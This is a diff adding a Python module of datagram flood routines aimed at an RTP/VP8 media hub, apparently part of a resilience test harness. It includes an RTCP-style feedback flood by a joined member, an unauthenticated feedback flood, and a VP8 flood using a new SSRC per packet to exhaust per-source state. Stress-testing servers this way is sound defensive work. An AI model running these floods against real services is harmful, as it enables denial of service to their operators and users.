@@ -1,0 +1,58 @@
+"""Attacks by datagrams: what one of them makes the host compute or keep."""
+from __future__ import annotations
+
+import itertools
+from typing import Any, Iterator
+
+import rtp_wire
+from hub_member import udp
+from members import Listener
+from pacing import Pace
+
+IN_A_DATAGRAM, FEEDBACK = (50, 30), 40  # in turn, as a host may refuse datagrams of too many; and bytes of one
+VP8 = 96
+
+
+def _spread(bits_a_second: float, size: float) -> float:
+    return bits_a_second / 8 / size
+
+
+def _feedback(ssrc: int) -> Iterator[bytes]:
+    numbers = itertools.count()
+    for count in itertools.cycle(IN_A_DATAGRAM):
+        yield b"".join(rtp_wire.endless_feedback(ssrc, next(numbers)) for _ in range(count))
+
+
+_FEEDBACK_SIZE = FEEDBACK * sum(IN_A_DATAGRAM) / len(IN_A_DATAGRAM)
+
+
+def feedback_of_a_member(target: dict[str, Any], seconds: float) -> dict[str, Any]:
+    """4.7 Mbit/s of it."""
+    member, sent = Listener(target, "reporter"), 0
+    member.hear(1)
+    for _, datagram in zip(Pace(_spread(4.7e6, _FEEDBACK_SIZE), seconds), _feedback(member.end_ssrc)):
+        sent += member.transmit(datagram)
+        member.arrived()
+        member.listen()
+    was_put_out = member.line.is_over
+    member.close()
+    return {"did": f"{sent * 8 / seconds / 1e6:.1f} Mbit/s of feedback" + (", put out" if was_put_out else ""), "effort": sent}
+
+
+def feedback_of_a_stranger(target: dict[str, Any], seconds: float) -> dict[str, Any]:
+    """1.6 Mbit/s of it, without any key."""
+    socket, sent = udp("127.0.0.1"), 0
+    for _, datagram in zip(Pace(_spread(1.6e6, _FEEDBACK_SIZE), seconds), _feedback(0xBAD)):
+        sent += socket.sendto(datagram, (target["host"], target["port"]))
+    socket.close()
+    return {"did": f"{sent * 8 / seconds / 1e6:.1f} Mbit/s of feedback", "effort": sent}
+
+
+def sources(target: dict[str, Any], seconds: float) -> dict[str, Any]:
+    """1.8 Mbit/s of packets of VP8, each of a source of its own."""
+    socket, size, sent = udp("127.0.0.1"), 60, 0
+    payload = b"\x10" + bytes(size - 13)  # the first packet of a frame
+    for number, _ in enumerate(Pace(_spread(1.8e6, size), seconds)):
+        sent += socket.sendto(rtp_wire.rtp(VP8, number, 0, 0x1000_0000 + number, payload), (target["host"], target["port"]))
+    socket.close()
+    return {"did": f"{sent * 8 / seconds / 1e6:.1f} Mbit/s, {sent // size // max(1, round(seconds)):,} sources a second", "effort": sent}
